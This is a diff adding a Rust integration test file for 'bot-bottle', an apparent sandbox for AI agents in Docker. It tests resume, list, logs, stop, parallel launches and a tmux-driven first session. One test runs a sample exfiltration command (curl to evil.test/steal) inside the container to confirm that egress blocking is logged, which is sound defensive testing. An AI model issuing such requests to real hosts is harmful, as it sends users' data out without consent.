@@ -1,0 +1,391 @@
+//! The lifecycle commands on the real engine: resume after a crash, list active, logs, stop,
+//! ten parallel launches, and a new user's first session in a terminal driven by tmux. Every
+//! test removes what it made, also when it fails (DockerCleanup). `cleanup` has its own test
+//! binary (tests/cleanup.rs): it removes every bottle on the engine.
+
+use std::process::{Child, Command, Output, Stdio};
+use std::time::{Duration, Instant};
+
+use bb_testkit::{DockerCleanup, Fixture, require_images, simple_bottle, unique_name};
+use serde_json::Value;
+
+const BOTTLE: &str = "egress:\n  routes:\n    - host: allowed.test\n      private: true\n";
+const WAIT: &str = "run:touch /tmp/ready; while [ ! -e /tmp/done ]; do sleep 0.2; done";
+
+struct Case {
+    f: Fixture,
+    name: String,
+    env: Vec<(String, String)>,
+    _cleanup: DockerCleanup,
+}
+
+impl Case {
+    fn new(prefix: &str) -> Case {
+        require_images();
+        let f = Fixture::new();
+        let name = unique_name(prefix);
+        let cleanup = DockerCleanup::new(&name);
+        let env = simple_bottle(&f, &name, BOTTLE);
+        Case {
+            f,
+            name,
+            env,
+            _cleanup: cleanup,
+        }
+    }
+
+    fn bb(&self, args: &[&str]) -> Output {
+        self.f
+            .spawnable("bot-bottle")
+            .args(args)
+            .envs(self.env.iter().map(|(k, v)| (k.as_str(), v.as_str())))
+            .stdin(Stdio::null())
+            .output()
+            .unwrap()
+    }
+
+    fn start(&self, prompt: &str) -> Output {
+        self.bb(&[
+            "start",
+            &self.name,
+            "--headless",
+            "--prompt",
+            prompt,
+            "--runtime",
+            "runc",
+        ])
+    }
+
+    /// `start` in the background with an agent that waits for /tmp/done; returns the child and
+    /// the identity once the agent is up.
+    fn start_waiting(&self) -> (Child, String) {
+        let child = self
+            .f
+            .spawnable("bot-bottle")
+            .args(["start", &self.name, "--headless", "--prompt", WAIT])
+            .args(["--runtime", "runc"])
+            .envs(self.env.iter().map(|(k, v)| (k.as_str(), v.as_str())))
+            .stdin(Stdio::null())
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .spawn()
+            .unwrap();
+        let prefix = format!("bot-bottle-{}-", self.name);
+        let deadline = Instant::now() + Duration::from_secs(180);
+        loop {
+            assert!(Instant::now() < deadline, "the agent never got ready");
+            let names = docker(&["ps", "--format", "{{.Names}}"]);
+            if let Some(agent) = names
+                .lines()
+                .find(|n| n.starts_with(&prefix) && n.ends_with("-agent"))
+                && exec(agent, "test -e /tmp/ready").status.success()
+            {
+                let identity = agent
+                    .trim_start_matches("bot-bottle-")
+                    .trim_end_matches("-agent")
+                    .to_string();
+                return (child, identity);
+            }
+            std::thread::sleep(Duration::from_millis(200));
+        }
+    }
+
+    fn state_dirs(&self) -> Vec<String> {
+        std::fs::read_dir(self.f.home().join("state"))
+            .map(|d| {
+                d.flatten()
+                    .map(|e| e.file_name().to_string_lossy().into_owned())
+                    .collect()
+            })
+            .unwrap_or_default()
+    }
+
+    fn left(&self) -> String {
+        let prefix = format!("bot-bottle-{}-", self.name);
+        let all = format!(
+            "{}\n{}",
+            docker(&["ps", "-a", "--format", "{{.Names}}"]),
+            docker(&["network", "ls", "--format", "{{.Name}}"])
+        );
+        all.lines()
+            .filter(|l| l.starts_with(&prefix))
+            .collect::<Vec<_>>()
+            .join(" ")
+    }
+}
+
+fn text(out: &Output) -> (String, String) {
+    (
+        String::from_utf8_lossy(&out.stdout).into_owned(),
+        String::from_utf8_lossy(&out.stderr).into_owned(),
+    )
+}
+
+fn docker(args: &[&str]) -> String {
+    let out = Command::new("docker").args(args).output().unwrap();
+    String::from_utf8_lossy(&out.stdout).trim().to_string()
+}
+
+fn exec(container: &str, script: &str) -> Output {
+    Command::new("docker")
+        .args(["exec", "-u", "node", container, "sh", "-c", script])
+        .output()
+        .unwrap()
+}
+
+fn wait(child: &mut Child) -> std::process::ExitStatus {
+    let deadline = Instant::now() + Duration::from_secs(120);
+    loop {
+        if let Some(status) = child.try_wait().unwrap() {
+            return status;
+        }
+        assert!(Instant::now() < deadline, "the launch did not exit");
+        std::thread::sleep(Duration::from_millis(100));
+    }
+}
+
+#[test]
+fn a_crashed_agent_keeps_its_state_and_resume_brings_the_same_identity_back() {
+    let c = Case::new("resume");
+    let out = c.start("run:echo \"id=$BOT_BOTTLE_IDENTITY\"; exit 3");
+    let (stdout, stderr) = text(&out);
+    assert_eq!(out.status.code(), Some(3), "{stderr}");
+    let identity = stdout
+        .lines()
+        .find_map(|l| l.strip_prefix("id="))
+        .expect("the agent printed its identity")
+        .to_string();
+    assert!(
+        stderr.contains(&format!("bot-bottle resume {identity}")),
+        "{stderr}"
+    );
+    assert_eq!(c.state_dirs(), [identity.clone()], "state kept");
+
+    let out = c.bb(&[
+        "resume",
+        &identity,
+        "--prompt",
+        "run:echo \"id=$BOT_BOTTLE_IDENTITY\"",
+    ]);
+    let (stdout, stderr) = text(&out);
+    assert_eq!(out.status.code(), Some(0), "{stderr}");
+    assert!(
+        stdout.contains(&format!("id={identity}")),
+        "same identity: {stdout}"
+    );
+    assert!(
+        stdout.contains("\"--continue\""),
+        "the provider's resume flag: {stdout}"
+    );
+    assert_eq!(c.left(), "", "torn down");
+    assert!(c.state_dirs().is_empty(), "a clean exit removes the state");
+
+    // Gone now: one clear line, exit 2.
+    let out = c.bb(&["resume", &identity]);
+    let (_, stderr) = text(&out);
+    assert_eq!(out.status.code(), Some(2), "{stderr}");
+    assert_eq!(stderr.lines().count(), 1, "{stderr}");
+    assert!(stderr.contains("no saved state for"), "{stderr}");
+}
+
+#[test]
+fn resume_refuses_state_from_another_schema() {
+    let c = Case::new("oldstate");
+    let dir = c.f.home().join("state/old-abcde");
+    std::fs::create_dir_all(&dir).unwrap();
+    std::fs::write(
+        dir.join("metadata.json"),
+        r#"{"schema": "bot-bottle.plan/v0", "identity": "old-abcde"}"#,
+    )
+    .unwrap();
+    let out = c.bb(&["resume", "old-abcde"]);
+    let (_, stderr) = text(&out);
+    assert_eq!(out.status.code(), Some(2), "{stderr}");
+    assert_eq!(stderr.lines().count(), 1, "{stderr}");
+    assert!(
+        stderr.contains("plan schema bot-bottle.plan/v0"),
+        "{stderr}"
+    );
+    assert!(stderr.contains("bot-bottle start"), "{stderr}");
+}
+
+#[test]
+fn list_active_logs_and_stop_from_another_terminal() {
+    let c = Case::new("active");
+    let (mut child, identity) = c.start_waiting();
+
+    let out = c.bb(&["list", "active", "--json"]);
+    let rows: Vec<Value> = serde_json::from_slice(&out.stdout).unwrap();
+    let row = rows
+        .iter()
+        .find(|r| r["identity"] == identity.as_str())
+        .unwrap_or_else(|| panic!("{identity} not listed: {rows:?}"));
+    assert_eq!(row["agent"], c.name.as_str());
+    assert_eq!(row["runtime"], "runc");
+    assert_eq!(row["sidecar"], "healthy");
+    assert!(row["uptime_seconds"].as_i64().unwrap() >= 0);
+    let table = text(&c.bb(&["list", "active"])).0;
+    assert!(
+        table.starts_with("IDENTITY") && table.contains(&identity),
+        "{table}"
+    );
+
+    // A refused request shows up in the decision log, readable and raw.
+    let agent = format!("bot-bottle-{identity}-agent");
+    let _ = exec(&agent, "curl -sS -m 5 http://evil.test/steal");
+    let logs = text(&c.bb(&["logs", &identity])).0;
+    assert!(
+        logs.lines()
+            .any(|l| l.contains("BLOCK  egress  GET evil.test/steal")),
+        "{logs}"
+    );
+    let raw = text(&c.bb(&["logs", &identity, "--json"])).0;
+    for line in raw.lines() {
+        serde_json::from_str::<Value>(line).unwrap_or_else(|e| panic!("{line}: {e}"));
+    }
+    assert!(raw.contains("\"verdict\":\"block\""), "{raw}");
+
+    let out = c.bb(&["stop", &identity]);
+    assert!(out.status.success(), "{}", text(&out).1);
+    let status = wait(&mut child);
+    assert_eq!(status.code(), Some(143), "the launch was terminated");
+    assert_eq!(c.left(), "", "stop removed the bottle");
+    let state = c.f.home().join("state").join(&identity);
+    assert!(
+        state.join("compose.log").is_file(),
+        "logs dumped, state kept"
+    );
+    // The kept log still reads after the bottle is gone.
+    let kept = text(&c.bb(&["logs", &identity])).0;
+    assert!(kept.contains("GET evil.test/steal"), "{kept}");
+    let rows: Vec<Value> =
+        serde_json::from_slice(&c.bb(&["list", "active", "--json"]).stdout).unwrap();
+    assert!(!rows.iter().any(|r| r["identity"] == identity.as_str()));
+
+    let out = c.bb(&["stop", &identity]);
+    assert_eq!(out.status.code(), Some(2), "nothing left to stop");
+}
+
+#[test]
+fn ten_parallel_launches_get_distinct_identities_and_leave_nothing() {
+    let c = Case::new("par");
+    let children: Vec<Child> = (0..10)
+        .map(|_| {
+            c.f.spawnable("bot-bottle")
+                .args(["start", &c.name, "--headless", "--prompt"])
+                .args(["run:echo \"id=$BOT_BOTTLE_IDENTITY\"", "--runtime", "runc"])
+                .envs(c.env.iter().map(|(k, v)| (k.as_str(), v.as_str())))
+                .stdin(Stdio::null())
+                .stdout(Stdio::piped())
+                .stderr(Stdio::piped())
+                .spawn()
+                .unwrap()
+        })
+        .collect();
+    let mut identities = Vec::new();
+    for child in children {
+        let out = child.wait_with_output().unwrap();
+        let (stdout, stderr) = text(&out);
+        assert!(out.status.success(), "{stderr}");
+        identities.extend(
+            stdout
+                .lines()
+                .filter_map(|l| l.strip_prefix("id="))
+                .map(str::to_string),
+        );
+    }
+    identities.sort();
+    identities.dedup();
+    assert_eq!(identities.len(), 10, "{identities:?}");
+    assert_eq!(c.left(), "");
+    assert!(c.state_dirs().is_empty());
+}
+
+#[test]
+fn a_new_user_in_a_terminal_inits_starts_answers_and_exits() {
+    require_images();
+    let f = Fixture::new();
+    let session = unique_name("tmux");
+    let cleanup = DockerCleanup::new("starter");
+    let bin_dir = bb_testkit::bin_path("bot-bottle")
+        .parent()
+        .unwrap()
+        .to_path_buf();
+    // The user's shell: bot-bottle's home in the fixture, the test agent image, a fake token.
+    let rc = f.write(
+        "rc.sh",
+        &format!(
+            "export PATH={}:$PATH BOT_BOTTLE_HOME={} HOME={} BOT_BOTTLE_IMAGE={} \
+             BOT_BOTTLE_BASE_IMAGE=bot-bottle-base:local CLAUDE_CODE_OAUTH_TOKEN=fake-token-for-test PS1='$ '\n",
+            bin_dir.display(),
+            f.home().display(),
+            f.path("user").display(),
+            bb_testkit::TEST_AGENT_IMAGE
+        ),
+    );
+    let tmux = |args: &[&str]| {
+        Command::new("tmux")
+            .args(["-L", &session])
+            .args(args)
+            .output()
+            .unwrap()
+    };
+    let screen = || text(&tmux(&["capture-pane", "-p", "-t", &session, "-S", "-200"])).0;
+    let wait_for = |what: &str, secs: u64| {
+        let deadline = Instant::now() + Duration::from_secs(secs);
+        while !screen().contains(what) {
+            assert!(
+                Instant::now() < deadline,
+                "waiting for {what:?}; the screen:\n{}",
+                screen()
+            );
+            std::thread::sleep(Duration::from_millis(200));
+        }
+    };
+    let type_line = |line: &str| {
+        tmux(&["send-keys", "-t", &session, "-l", line]);
+        tmux(&["send-keys", "-t", &session, "Enter"]);
+    };
+    let started = tmux(&[
+        "new-session",
+        "-d",
+        "-s",
+        &session,
+        "-x",
+        "200",
+        "-y",
+        "50",
+        "sh",
+    ]);
+    assert!(started.status.success(), "{}", text(&started).1);
+    struct Kill(String);
+    impl Drop for Kill {
+        fn drop(&mut self) {
+            let _ = Command::new("tmux")
+                .args(["-L", &self.0, "kill-server"])
+                .output();
+        }
+    }
+    let _kill = Kill(session.clone());
+    type_line(&format!(". {}", rc.display()));
+    // Markers the shell computes, so the typed command line itself never matches.
+    type_line("bot-bottle init && echo init-$((1+1))");
+    wait_for("init-2", 20);
+    type_line("bot-bottle start starter --runtime runc");
+    wait_for("launch this agent? [y/N]", 60);
+    type_line("y");
+    // capture-pane drops trailing blanks: the prompt shows as `stub-agent>`.
+    wait_for("stub-agent>", 180);
+    assert!(
+        screen().contains("routes     github.com"),
+        "the preflight: {}",
+        screen()
+    );
+    type_line("exit");
+    type_line("echo agent-exited-$?");
+    wait_for("agent-exited-0", 120);
+    type_line("bot-bottle list active; echo listed-$((2+2))");
+    wait_for("listed-4", 30);
+    assert!(screen().contains("no running bottles"), "{}", screen());
+    drop(cleanup);
+}
